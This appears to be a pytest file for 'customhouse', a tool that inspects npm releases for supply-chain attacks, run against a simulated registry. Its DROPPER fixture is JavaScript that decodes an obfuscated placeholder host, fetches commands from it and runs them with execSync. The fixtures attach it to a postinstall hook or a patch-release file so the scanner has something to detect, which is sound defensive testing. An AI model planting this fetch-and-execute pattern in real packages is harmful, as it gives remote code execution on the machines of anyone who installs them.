"""What a release brings along, and both comparisons, from outside: the real command against the registry simulator."""

from datetime import UTC, datetime, timedelta

import pytest

from pipeline.projects import npm_project, rules_of
from pipeline.repositories import Repository
from simulator import npm_tarball

OLD = datetime(2024, 1, 1, tzinfo=UTC)
NOW = datetime.now(UTC)
#: Days, so that no minimum age is in the way of what is looked at here.
LATELY = NOW - timedelta(days=20)
DROPPER = """\
const { execSync } = require('child_process');
const https = require('https');
const host = Buffer.from('ZmlsZXMucmVwbGljYS5pbnZhbGlk', 'base64').toString();
https.get('https://' + host + '/next', (answer) => {
  answer.on('data', (part) => execSync(part.toString()));
});
"""


def told(outcome):
    return {finding["rule"]: finding for finding in outcome.json["findings"]}


@pytest.fixture
def taken_over(registry):
    """A known library whose patch release adds a dependency that nothing imports: hours old, with an install script."""
    library = {"files": {"index.js": "module.exports = () => fetch('https://rates.example.test/')\n"}}
    registry.npm.publish("lib", "1.14.0", published=OLD, **library)
    release = registry.npm.publish(
        "lib", "1.14.1", published=LATELY, dependencies={"simple-crypto-js": "^4.2.1"}, **library
    )
    clean = {"index.js": "module.exports = 1\n"}
    earlier = LATELY - timedelta(hours=18)
    registry.npm.publish("simple-crypto-js", "4.2.0", published=earlier, files=clean)
    scripts = {"postinstall": "node setup.js"}
    bad = registry.npm.publish(
        "simple-crypto-js",
        "4.2.1",
        published=LATELY - timedelta(minutes=22),
        scripts=scripts,
        files={**clean, "setup.js": DROPPER},
    )
    return {("lib", "1.14.1"): release, ("simple-crypto-js", "4.2.1"): bad}


@pytest.mark.usefixtures("taken_over")
def test_the_way_to_what_a_release_brings_is_told(customhouse):
    outcome = customhouse("inspect", "pkg:npm/lib@1.14.1", "--format", "json")
    assert outcome.code == 20
    found = told(outcome)
    brought = found["dependency-brings-findings"]
    assert brought["message"].startswith("lib@1.14.1 -> simple-crypto-js@4.2.1: ")
    assert brought["locations"] == [{"path": "package.json", "line": None}]
    assert "customhouse inspect pkg:npm/simple-crypto-js@4.2.1" in brought["hint"]
    assert found["unseen-dependency-runs-at-install"]["severity"] == "critical"
    assert "manifest-alone-adds-unseen-dependency" in found
    (closure,) = (each for each in outcome.json["evidence"] if each["collector"] == "closure")
    assert (closure["status"], closure["detail"]) == ("complete", "1 dependencies looked up, 1 of them inspected")
    again = customhouse("inspect", "pkg:npm/lib@1.14.1", "--offline", "--format", "json")
    assert rules_of(again.json) == rules_of(outcome.json)


def test_a_lock_is_inspected_entry_by_entry_and_not_walked(customhouse, taken_over, tmp_path):
    project = npm_project(tmp_path / "project", taken_over)
    outcome = customhouse("check", "--format", "json", cwd=project)
    assert outcome.code == 20
    for package in outcome.json["packages"]:
        assert "dependency-brings-findings" not in rules_of(package)
        assert "closure" not in {each["collector"] for each in package.get("evidence", [])}


@pytest.mark.usefixtures("taken_over")
def test_a_local_file_is_judged_with_its_dependencies(customhouse, registry, tmp_path):
    manifest = {"name": "mine", "version": "1.0.0", "dependencies": {"simple-crypto-js": "^4.2.1"}}
    path = tmp_path / "mine-1.0.0.tgz"
    path.write_bytes(npm_tarball({"index.js": "require('simple-crypto-js')\n"}, manifest))
    outcome = customhouse("inspect", path, "--format", "json")
    assert outcome.code in (10, 20)
    assert "dependency-brings-findings" in rules_of(outcome.json)
    registry.requests.clear()
    offline = customhouse("inspect", path, "--offline", "--format", "json")
    assert offline.code == 0
    assert registry.requests == []


def test_an_optional_dependency_from_a_repository_in_a_patch_release_is_held(customhouse, registry):
    files = {"index.js": "module.exports = 1\n"}
    registry.npm.publish("router", "1.2.3", published=OLD, files=files)
    optional = {
        "package.json": {"optionalDependencies": {"setup": "github:someone/router#79ac49eedf774dd4b0cfa308722bc463"}}
    }
    registry.npm.publish("router", "1.2.4", published=LATELY, files={**files, **optional})
    outcome = customhouse("inspect", "pkg:npm/router@1.2.4", "--format", "json")
    assert outcome.code == 10
    assert "which the version before did not" in told(outcome)["non-registry-dependency"]["message"]


def test_an_upgrade_is_compared_with_the_release_before_and_with_what_it_replaces(customhouse, registry, tmp_path):
    """The patch is clean; the script came with the release between, which the project never had."""
    plain = {"files": {"index.js": "module.exports = 1\n"}}
    hooked = {
        "files": {"index.js": "module.exports = 1\n", "setup.js": DROPPER},
        "scripts": {"postinstall": "node setup.js"},
    }
    first = registry.npm.publish("lib", "1.0.0", published=OLD, **plain)
    registry.npm.publish("lib", "1.0.1", published=OLD + timedelta(days=1), **hooked)
    last = registry.npm.publish("lib", "1.0.2", published=LATELY, **hooked)
    repository = Repository(tmp_path / "project")
    npm_project(repository.folder, {("lib", "1.0.0"): first})
    repository.commit("first")
    npm_project(repository.folder, {("lib", "1.0.2"): last})
    gate = customhouse("check", "--base", "HEAD", "--format", "json", cwd=repository.folder)
    (package,) = gate.json["packages"]
    (added,) = (each for each in package["findings"] if each["rule"] == "install-script-added")
    assert added["message"].endswith("1.0.0 had no such hook")
    alone = customhouse("inspect", "pkg:npm/lib@1.0.2", "--format", "json")
    assert "install-script-added" not in rules_of(alone.json)
    named = customhouse("inspect", "pkg:npm/lib@1.0.2", "--against", "pkg:npm/lib@1.0.0", "--format", "json")
    assert "install-script-added" in rules_of(named.json)


def test_what_a_patch_does_to_its_own_release_line_is_seen_behind_a_long_upgrade(customhouse, registry, tmp_path):
    """Against the project's 1.0.0 it is a minor release; against 1.4.0 it is a patch with a new file that acts."""
    body = "".join(f"exports.a{number} = {number}\n" for number in range(20))
    base = {"index.js": body}
    acting = {"index.js": f"require('./lib/check')\n{body}", "lib/check.js": DROPPER.replace("host +", "'a.test' +")}
    first = registry.npm.publish("lib", "1.0.0", published=OLD, files=base)
    registry.npm.publish("lib", "1.4.0", published=OLD + timedelta(days=9), files=base)
    last = registry.npm.publish("lib", "1.4.1", published=LATELY, files=acting)
    repository = Repository(tmp_path / "project")
    npm_project(repository.folder, {("lib", "1.0.0"): first})
    repository.commit("first")
    npm_project(repository.folder, {("lib", "1.4.1"): last})
    gate = customhouse("check", "--base", "HEAD", "--format", "json", cwd=repository.folder)
    (package,) = gate.json["packages"]
    payload = [each for each in package["findings"] if each["rule"] == "payload-in-patch-release"]
    assert [each["severity"] for each in payload] == ["high"]
    assert "1.4.0 did not have it" in payload[0]["message"]
    assert gate.code in (10, 20)
